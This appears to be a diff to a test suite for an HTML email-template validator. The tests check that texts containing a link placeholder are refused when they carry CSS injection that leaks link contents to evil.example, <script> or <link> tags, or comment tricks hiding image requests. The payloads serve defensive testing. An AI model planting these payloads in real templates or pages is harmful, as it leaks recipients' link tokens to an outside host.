@@ -7,6 +7,7 @@ import { composeMessage } from './compose.ts';
 import { attributeOf, childrenOf, isElement, isHtml, type Node } from './html.ts';
 import { readOwnText } from './own-text.ts';
 
+const sheet = 'a style sheet that imports another, or asks what attributes hold';
 const link = '<a href="{{link}}">Go on</a>';
 
 describe('a text of an organization', () => {
@@ -17,7 +18,7 @@ describe('a text of an organization', () => {
     "<a class='button' style='color:red' target=_blank href=' {{ link }} '>Go on</a>",
     '<a href="{{url}}">Portal</a> <a href="{{url}}/help?a=b">Help</a> {{url}}',
     '<img alt="{{organization}}" src="https://cdn.example/logo.png"><body background="https://cdn.example/x.png">',
-    `<style>@media (max-width:400px){ a { color: red } }</style><div style="background:url(https://cdn.example/b.png)">${link}`,
+    `<style>@media (max-width:400px){ td[class*="w"] a[x-apple] { background: url(https://cdn.example/a.png) } }</style><div style="background:url(https://cdn.example/b.png)">${link}`,
     `<!--[if mso]><table><tr><td style="width:600px"><![endif]-->${link}<!--[if mso]></td></tr></table><![endif]-->`,
     `<!--[if !mso]><!--><p>a</p><!--<![endif]-->${link}<!-- 1 < 2, isn't it -->`,
     `<!--[if mso]><noscript><xml><o:Office></o:Office></xml></noscript><![endif]-->${link}`,
@@ -97,14 +98,16 @@ describe('a text of an organization', () => {
   });
 
   for (const [thief, what] of [
-    ['<style>a[href*="ab"]{background:url(https://evil.example/ab)}</style>', 'a style sheet that fetches something'],
-    ['<style>@import "https://evil.example/x.css";</style>', 'a style sheet that fetches something'],
-    ['<style>@\\69mport "https://evil.example/x.css";</style>', 'a style sheet that fetches something'],
+    ['<style>a[href*="ab"]{background:url(https://evil.example/ab)}</style>', sheet],
+    ['<style>@import "https://evil.example/x.css";</style>', sheet],
+    ['<style>@\\69mport "https://evil.example/x.css";</style>', sheet],
     [
-      '<style>a{background:-webkit-image-set("https://evil.example/x" 1x)}</style>',
-      'a style sheet that fetches something',
+      '<style>i{display:none}a[hRef*="ab"]~i{display:block}</style><i style="background:url(//evil.example/ab)">',
+      sheet,
     ],
-    ['<style>@font-face{src:URL(//evil.example/x)}</style>', 'a style sheet that fetches something'],
+    ['<style>a::after{content:attr(href)}</style>', sheet],
+    ['<style>a[/**/data-safe/**/^="https"]{color:red}</style>', sheet],
+    ['<style>td[class*="a"] a[title$="b"]{color:red}</style>', sheet],
     ['<link rel=stylesheet href=https://evil.example/x.css>', 'the element link'],
     ['<script src=https://evil.example/x.js></script>', 'the element script'],
     ['<iframe srcdoc="x"></iframe>', 'the element iframe'],
@@ -114,7 +117,7 @@ describe('a text of an organization', () => {
     ["<!--[if mso]><img src='https://evil.example/?<![endif]-->", 'a comment with a tag that does not end in it'],
     ["<!-- > <img src='https://evil.example/? -->", 'a comment with a tag that does not end in it'],
     ['<!--[if mso]><link rel=stylesheet href=x><![endif]-->', 'the element link in a comment'],
-    ['<!--[if mso]><style>@import "x"</style><![endif]-->', 'a style sheet that fetches something'],
+    ['<!--[if mso]><style>@import "x"</style><![endif]-->', sheet],
   ] as const) {
     it(`must not have ${thief} beside the link`, () => {
       assert.deepEqual(readOwnText(`${thief}${link} it's`), { refused: `A text with {{link}} must not have ${what}.` });
